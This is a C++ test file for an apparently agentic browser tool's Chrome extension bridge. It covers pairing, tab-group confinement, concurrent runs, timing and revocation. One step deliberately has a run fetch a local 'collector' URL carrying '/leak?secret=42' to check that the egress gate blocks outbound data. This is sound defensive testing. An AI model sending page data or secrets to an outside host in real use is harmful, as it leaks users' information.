@@ -1,0 +1,278 @@
+// A run in the user's Chrome through ouro's extension (docs/design/extension-bridge.md), as the
+// held-out check does it: `ouro serve --port 0`; the folder `ouro extension` writes, loaded into
+// a headless Chromium of the test's own with --load-extension and no debugging flag ouro could
+// use (the test drives that Chromium over a DevTools pipe only it holds, as a person's hands
+// would: it opens the side panel's page and types the port and the pairing code); then a scripted
+// run with options.browser "extension" that reads a fixture page opened in its tab group. The
+// tab the user has open outside the group is never attached, and the egress gate, working
+// through chrome.debugger's Fetch, refuses the run's fetch to another loopback port.
+#include "serve_process.h"
+
+#include "browser/launcher.h"
+#include "cdp/connection.h"
+#include "cdp/transport.h"
+#include "net/http_server.h"
+#include "net/io.h"
+
+#include <gtest/gtest.h>
+
+#include <atomic>
+#include <thread>
+
+namespace ouro {
+namespace {
+
+using namespace std::chrono_literals;
+using testing::Http;
+
+// Polls `fn` every 100 ms until it is true or `timeout` passes.
+bool eventually(const std::function<bool()>& fn, std::chrono::milliseconds timeout) {
+  auto until = std::chrono::steady_clock::now() + timeout;
+  while (std::chrono::steady_clock::now() < until) {
+    if (fn()) return true;
+    std::this_thread::sleep_for(100ms);
+  }
+  return fn();
+}
+
+// The person's browser: Chromium with ouro's extension, driven over a pipe only the test holds.
+struct PersonsChromium {
+  std::unique_ptr<net::IoThread> io = net::IoThread::start();
+  std::unique_ptr<browser::ChromiumProcess> process;
+  std::unique_ptr<cdp::Connection> conn;
+
+  explicit PersonsChromium(const std::string& extension_dir) {
+    browser::LaunchOptions o;
+    o.extra_args = {"--disable-extensions-except=" + extension_dir, "--load-extension=" + extension_dir};
+    auto p = browser::ChromiumProcess::spawn(o);
+    if (!p) throw std::runtime_error(p.error().message);
+    process = std::move(*p);
+    conn = cdp::Connection::create(cdp::make_pipe_transport(*io, process->read_fd(), process->write_fd()));
+  }
+
+  // The extension's id, from its service worker's URL.
+  std::string extension_id() {
+    std::string id;
+    eventually([&] {
+      auto targets = conn->call("Target.getTargets");
+      if (!targets) return false;
+      for (const auto& t : get_array(*targets, "targetInfos")) {
+        std::string url = get_str(t, "url");
+        if (get_str(t, "type") == "service_worker" && url.rfind("chrome-extension://", 0) == 0) id = url.substr(19, 32);
+      }
+      return !id.empty();
+    }, 15s);
+    return id;
+  }
+
+  // Opens a tab at url and attaches to it: its session id.
+  std::string open(const std::string& url) {
+    auto created = conn->call("Target.createTarget", {{"url", url}});
+    if (!created) throw std::runtime_error(created.error().message);
+    auto attached = conn->call("Target.attachToTarget", {{"targetId", (*created)["targetId"]}, {"flatten", true}});
+    if (!attached) throw std::runtime_error(attached.error().message);
+    return (*attached)["sessionId"];
+  }
+
+  json eval(const std::string& session, const std::string& expression) {
+    auto r = conn->call("Runtime.evaluate", {{"expression", expression}, {"awaitPromise", true}, {"returnByValue", true}}, session, 15s);
+    if (!r) return json{{"error", r.error().message}};
+    if (r->contains("exceptionDetails")) return json{{"exception", (*r)["exceptionDetails"]}};
+    return get_field(get_field(*r, "result"), "value");
+  }
+};
+
+// A site no run may send anything to: it counts what reaches it.
+struct Collector {
+  std::shared_ptr<std::atomic<int>> hits = std::make_shared<std::atomic<int>>(0);
+  std::unique_ptr<net::IoThread> io = net::IoThread::start();
+  std::unique_ptr<net::HttpServer> server;
+  Collector() {
+    auto h = hits;
+    server = *net::HttpServer::start(*io, {}, [h](const net::HttpRequest&) {
+      ++*h;
+      net::HttpResponse r;
+      r.body = "got it";
+      r.headers.push_back({"Access-Control-Allow-Origin", "*"});
+      return r;
+    });
+  }
+};
+
+TEST(Bridge, RunReadsAPageInItsGroupThroughThePairedExtension) {
+  testing::ServeProcess serve(testing::temp_dir());
+  ASSERT_FALSE(serve.base.empty()) << serve.log();
+  std::string port = serve.base.substr(serve.base.rfind(':') + 1);
+
+  // The folder `ouro extension` writes.
+  std::string ext_dir = testing::temp_dir() + "/extension";
+  auto written = testing::ouro_shell(testing::temp_dir(), "extension --out " + ext_dir);
+  ASSERT_EQ(written.code, 0) << written.err;
+  ASSERT_NE(written.out.find("Load unpacked"), std::string::npos) << written.out;
+
+  // Before any extension: a run through it says how to load and pair one.
+  std::string script = testing::script_file({{{"text", testing::repl_reply("setFinal(1)")}}});
+  Http early = serve.post("/api/runs", {{"task", "Nothing"}, {"options", {{"provider", "script:" + script}, {"browser", "extension"}}}});
+  ASSERT_EQ(early.status, 201) << early.raw;
+  json failed = serve.wait_state(early.body["id"], {"failed"}, 60s);
+  EXPECT_NE(failed.dump().find("Load unpacked"), std::string::npos) << failed.dump();
+
+  PersonsChromium chrome(ext_dir);
+  std::string ext = chrome.extension_id();
+  ASSERT_EQ(ext.size(), 32u) << "the extension's service worker did not start";
+
+  // A tab the person has open, outside any group.
+  Collector collector;
+  std::string mine = chrome.open(testing::site().url("/"));
+  ASSERT_TRUE(eventually([&] { return chrome.eval(mine, "document.readyState") == "complete"; }, 15s));
+
+  // Pairing, as a person does it: the side panel's page, the port, the code ouro serve shows.
+  std::string panel = chrome.open("chrome-extension://" + ext + "/sidepanel.html");
+  // The panel's script has run once it has shown the connection's state (before that, a submit
+  // would be the form's default one).
+  ASSERT_TRUE(eventually([&] {
+    return chrome.eval(panel, "(document.getElementById('ext-conn') || {}).textContent !== 'Looking for ouro…'") == true;
+  }, 15s));
+  ASSERT_TRUE(eventually([&] {
+    chrome.eval(panel, "if (document.getElementById('ext-pair').hidden) { document.getElementById('ext-port').value = '" + port +
+                           "'; document.getElementById('ext-port-form').requestSubmit(); } true");
+    return eventually([&] { return chrome.eval(panel, "!document.getElementById('ext-pair').hidden") == true; }, 5s);
+  }, 30s)) << chrome.eval(panel, "document.body.innerText").dump();
+  Http code = serve.get("/api/pair/code");
+  ASSERT_EQ(code.status, 200) << code.raw;
+  chrome.eval(panel, "document.getElementById('ext-code').value = '" + code.body["code"].get<std::string>() +
+                         "'; document.getElementById('ext-pair').requestSubmit(); true");
+  ASSERT_TRUE(eventually([&] {
+    Http list = serve.get("/api/pairings");
+    return list.status == 200 && list.body.size() == 1 && list.body[0]["connected"] == true;
+  }, 30s)) << serve.get("/api/pairings").raw << "\n" << serve.log();
+  EXPECT_EQ(serve.get("/api/pairings").body[0]["origin"], "chrome-extension://" + ext);
+
+  // The person shares a tab of theirs (Share this tab: the panel's message to the service worker)
+  // before any conversation has a group; the next run claims that group and reads the tab.
+  std::string shared = chrome.open(testing::site().url("/list"));
+  ASSERT_TRUE(eventually([&] { return chrome.eval(shared, "document.readyState") == "complete"; }, 15s));
+  // (chrome.tabs may report the tab's new URL a moment after its document loaded.)
+  json share;
+  ASSERT_TRUE(eventually([&] {
+    share = chrome.eval(panel, "chrome.tabs.query({}).then(ts => new Promise(done => {"
+                               "  const tab = ts.find(t => (t.url || '').endsWith('/list'));"
+                               "  if (!tab) return done('no such tab yet');"
+                               "  const port = chrome.runtime.connect({name: 'panel'});"
+                               "  port.onMessage.addListener(m => { if (m.type === 'reply' && m.for === 'share-1') done(m.ok || m.error); });"
+                               "  port.postMessage({type: 'share', tabId: tab.id, nonce: 'share-1'});"
+                               "}))");
+    return share == true;
+  }, 10s)) << share.dump();
+  std::string read_script = testing::script_file({{{"text", testing::repl_reply("setFinal(await execInTab(activeTab, 'return location.pathname'))")}}});
+  Http from_shared = serve.post("/api/runs", {{"task", "Which page is shared?"}, {"options", {{"provider", "script:" + read_script}, {"browser", "extension"}}}});
+  ASSERT_EQ(from_shared.status, 201) << from_shared.raw;
+  json read = serve.wait_state(from_shared.body["id"], {"done", "failed", "partial", "cancelled"}, 120s);
+  EXPECT_EQ(read["state"], "done") << read.dump();
+  EXPECT_EQ(read["final"], "/list") << "the run reads the tab the person shared";
+
+  // The run: read the page in its group, then try to send data to the collector.
+  std::string leak = "http://127.0.0.1:" + std::to_string(collector.server->port()) + "/leak?secret=42";
+  std::string run_script = testing::script_file(
+      {{{"text", testing::repl_reply("env.h = await getText(activeTab, 'h1')")}},
+       {{"text", testing::repl_reply("env.sent = await execInTab(activeTab, \"return fetch('" + leak +
+                                     "').then(r => 'sent', e => 'blocked: ' + e.message)\")")}},
+       {{"text", testing::repl_reply("setFinal({h: env.h, sent: env.sent})")}}});
+  Http created = serve.post("/api/runs", {{"task", "Read the heading of the fixture"},
+                                          {"urls", {testing::site().url("/")}},
+                                          {"options", {{"provider", "script:" + run_script}, {"browser", "extension"}}}});
+  ASSERT_EQ(created.status, 201) << created.raw;
+  std::string id = created.body["id"];
+  json run = serve.wait_state(id, {"done", "failed", "partial", "cancelled"}, 120s);
+  ASSERT_EQ(run["state"], "done") << run.dump() << "\n" << serve.log().substr(0, 4000);
+  EXPECT_EQ(run["final"]["h"], "Fixture Home");
+  EXPECT_NE(run["final"]["sent"].get<std::string>().find("blocked"), std::string::npos) << run["final"].dump();
+  EXPECT_EQ(collector.hits->load(), 0) << "the egress gate let a request through the bridge";
+  bool placed = false;
+  for (const auto& e : serve.events(id))
+    if (e["type"] == "placement" && e["data"]["endpoint"] == "extension") placed = true;
+  EXPECT_TRUE(placed) << "the run says it works in the user's Chrome through the extension";
+  std::cout << "run through the bridge: " << run["final"].dump() << "\n";
+
+  // The run's tab is in a group named after its task; the person's tab is in none and was never
+  // attached.
+  json tabs = chrome.eval(panel, "chrome.tabs.query({}).then(ts => ts.map(t => ({url: t.url, group: t.groupId})))");
+  json groups = chrome.eval(panel, "chrome.tabGroups.query({}).then(gs => gs.map(g => g.title))");
+  bool grouped_fixture = false;
+  for (const auto& t : tabs)
+    if (get_str(t, "url") == testing::site().url("/") && get_int(t, "group", -1) != -1) grouped_fixture = true;
+  EXPECT_TRUE(grouped_fixture) << tabs.dump();
+  EXPECT_NE(groups.dump().find("Read the heading of the fixture"), std::string::npos) << groups.dump();
+  json person = chrome.eval(mine, "JSON.stringify({title: document.title, marks: Object.keys(window).filter(k => k.startsWith('__ouro'))})");
+  EXPECT_EQ(person, json(dump_json(json{{"title", chrome.eval(mine, "document.title")}, {"marks", json::array()}})));
+  json ungrouped = chrome.eval(panel, "chrome.tabs.query({}).then(ts => ts.filter(t => t.groupId === -1).map(t => t.url))");
+  EXPECT_NE(ungrouped.dump().find(testing::site().url("/")), std::string::npos) << "the person's tab stays out of the group: " << ungrouped.dump();
+
+  // Two conversations at once, each in a group of its own.
+  std::string where = testing::script_file({{{"text", testing::repl_reply("setFinal(await execInTab(activeTab, 'return location.pathname'))")}}});
+  Http first = serve.post("/api/runs", {{"task", "Side by side one"}, {"urls", {testing::site().url("/form")}},
+                                        {"options", {{"provider", "script:" + where}, {"browser", "extension"}}}});
+  Http second = serve.post("/api/runs", {{"task", "Side by side two"}, {"urls", {testing::site().url("/list")}},
+                                         {"options", {{"provider", "script:" + where}, {"browser", "extension"}}}});
+  ASSERT_EQ(first.status, 201);
+  ASSERT_EQ(second.status, 201);
+  json one = serve.wait_state(first.body["id"], {"done", "failed", "partial", "cancelled"}, 120s);
+  json two = serve.wait_state(second.body["id"], {"done", "failed", "partial", "cancelled"}, 120s);
+  EXPECT_EQ(one["final"], "/form") << one.dump();
+  EXPECT_EQ(two["final"], "/list") << two.dump();
+  json titles = chrome.eval(panel, "chrome.tabGroups.query({}).then(gs => gs.map(g => g.title))");
+  EXPECT_NE(titles.dump().find("Side by side one"), std::string::npos) << titles.dump();
+  EXPECT_NE(titles.dump().find("Side by side two"), std::string::npos) << titles.dump();
+
+  // The bridge's cost per command: getText (one Runtime.evaluate in the helpers' world, once the
+  // world exists) timed over 100 calls, in the person's Chrome through the extension and in ouro's
+  // own Chromium over its DevTools pipe. Printed, not asserted: the machine decides the numbers.
+  std::string timing = testing::script_file({{{"text", testing::repl_reply(
+      "await getText(activeTab, 'h1'); const t0 = Date.now(); for (let i = 0; i < 100; i++) await getText(activeTab, 'h1'); "
+      "setFinal((Date.now() - t0) / 100)")}}});
+  double per_call[2] = {0, 0};
+  for (int via_bridge = 0; via_bridge < 2; ++via_bridge) {
+    json options = {{"provider", "script:" + timing}};
+    if (via_bridge) options["browser"] = "extension";
+    Http t = serve.post("/api/runs", {{"task", "Time getText"}, {"urls", {testing::site().url("/")}}, {"options", options}});
+    ASSERT_EQ(t.status, 201) << t.raw;
+    json timed = serve.wait_state(t.body["id"], {"done", "failed", "partial", "cancelled"}, 120s);
+    ASSERT_EQ(timed["state"], "done") << timed.dump();
+    per_call[via_bridge] = timed["final"].get<double>();
+  }
+  std::cout << fmt::format("getText per call: {:.2f} ms through the extension bridge, {:.2f} ms over ouro's own DevTools pipe\n",
+                           per_call[1], per_call[0]);
+
+  // A clean context cannot exist through the extension: the run says so.
+  Http clean = serve.post("/api/runs", {{"task", "Clean"},
+                                        {"options", {{"provider", "script:" + script}, {"browser", "extension"}, {"context", "clean"}}}});
+  ASSERT_EQ(clean.status, 201);
+  json refused = serve.wait_state(clean.body["id"], {"failed"}, 60s);
+  EXPECT_NE(refused.dump().find("clean context"), std::string::npos) << refused.dump();
+
+  // Revoking the pairing closes the bridge at once.
+  std::string pairing = serve.get("/api/pairings").body[0]["id"];
+  EXPECT_EQ(serve.del("/api/pairings/" + pairing).status, 200);
+  EXPECT_TRUE(eventually([&] { return chrome.eval(panel, "chrome.storage.local.get('credential').then(s => !s.credential)") == true; }, 10s));
+}
+
+// `ouro serve --browser extension`: no Chromium of ouro's; runs go to the extension by default,
+// and without one they say how to load and pair it.
+TEST(Bridge, ServeWithTheExtensionAsItsBrowser) {
+  testing::ServeProcess serve(testing::temp_dir(), {}, {"--browser", "extension"});
+  ASSERT_FALSE(serve.base.empty()) << serve.log();
+  Http hello = testing::request("GET", serve.base + "/api/hello", "");
+  EXPECT_EQ(hello.body["service"], "ouro");
+  std::string script = testing::script_file({{{"text", testing::repl_reply("setFinal(1)")}}});
+  Http run = serve.post("/api/runs", {{"task", "Nothing"}, {"options", {{"provider", "script:" + script}}}});
+  ASSERT_EQ(run.status, 201) << run.raw;
+  json failed = serve.wait_state(run.body["id"], {"failed", "done"}, 60s);
+  EXPECT_EQ(failed["state"], "failed");
+  EXPECT_NE(failed.dump().find("no ouro extension is connected"), std::string::npos) << failed.dump();
+  auto elsewhere = testing::ouro_shell(testing::temp_dir(), "run 'x' --browser extension");
+  EXPECT_NE(elsewhere.code, 0);
+  EXPECT_NE(elsewhere.err.find("goes with ouro serve"), std::string::npos) << elsewhere.err;
+}
+
+}  // namespace
+}  // namespace ouro
